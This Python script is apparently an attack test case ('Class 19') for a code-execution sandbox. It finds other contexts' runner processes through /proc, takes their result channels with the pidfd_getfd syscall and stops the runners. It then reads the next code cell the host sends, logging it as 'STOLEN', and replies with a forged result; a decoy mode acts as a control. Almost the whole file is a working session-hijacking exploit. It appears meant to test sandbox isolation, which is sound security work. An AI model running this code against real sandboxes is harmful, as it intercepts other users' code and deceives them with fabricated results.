# Class 19: a command that takes over another context's live runner. `python3 -c THIS LOG MODE`
# runs as a plain command beside a context. MODE `runner`: find the sandbox's code runners
# (`python3 -I ... -c <runner>`), take each one's result channel with `pidfd_getfd` (the same
# uid may, unless the process is not dumpable), stop the runner, and answer the next cell the
# host sends in its place: the cell's code goes to LOG ("STOLEN"), a forged result back. MODE
# `decoy` (the positive control): take the descriptors of a plain process of the same user
# whose argv says DECOY-CHANNEL the same way, log "TAKEN", and kill it. Logs what it did.
import ctypes, os, signal, socket, stat, sys, time
libc = ctypes.CDLL(None, use_errno=True)
log = open(sys.argv[1], "a", buffering=1)
def say(*a): print(*a, file=log)
mode = sys.argv[2]
me = os.getpid(); parent = os.getppid()
victims = []
deadline = time.time() + 20
while not victims and time.time() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) in (me, parent): continue
        try: argv = open("/proc/%s/cmdline" % p, "rb").read().split(b"\0")
        except OSError: continue
        if mode == "runner" and b"-I" in argv and b"-c" in argv and any(b"CTRL" in a for a in argv):
            victims.append(int(p))
        elif mode == "decoy" and any(b"DECOY-" + b"CHANNEL" in a for a in argv):
            victims.append(int(p))
    time.sleep(0.1)
say("victims", victims)
for pid in victims:
    pfd = libc.syscall(434, pid, 0)
    if pfd < 0:
        say("pidfd_open", pid, os.strerror(ctypes.get_errno())); continue
    chan = None
    # A decoy is seen by its argv from its exec on, but has its socket only once Python has
    # started (slow on a loaded machine): look again until it has one. A runner is looked at
    # once, as an attacker that found it would.
    for attempt in range(100 if mode == "decoy" else 1):
        for fd in range(3, 64):
            r = libc.syscall(438, pfd, fd, 0)
            if r < 0:
                e = ctypes.get_errno()
                if e == 9:
                    continue
                say("pidfd_getfd", pid, fd, os.strerror(e))
                break
            if stat.S_ISSOCK(os.fstat(r).st_mode) or stat.S_ISFIFO(os.fstat(r).st_mode):
                chan = r  # the last one: the runner's moved channel
                say("fd", fd, os.readlink("/proc/self/fd/%d" % r))
            else:
                os.close(r)
        if chan is not None:
            break
        time.sleep(0.1)
    if chan is None:
        continue
    if mode == "decoy":
        say("TAKEN", pid)
        os.kill(pid, signal.SIGKILL)
        continue
    os.kill(pid, signal.SIGSTOP)
    say("stopped", pid, "channel", chan)
    f = os.fdopen(chan, "r+b", buffering=0)
    while True:
        line = b""
        while not line.endswith(b"\n"):
            c = f.read(1)
            if not c: say("eof"); sys.exit(0)
            line += c
        words = line.split()
        code = f.read(int(words[-1]))
        say("STOLEN", words, code)
        n = words[1].decode() if len(words) > 1 else "1"
        f.write(b"bundle result 1 0\nitem text/plain 6\nFORGED" + b"done %s 0\n" % n.encode())
        say("FORGED", n)
        sys.exit(0)
say("done")
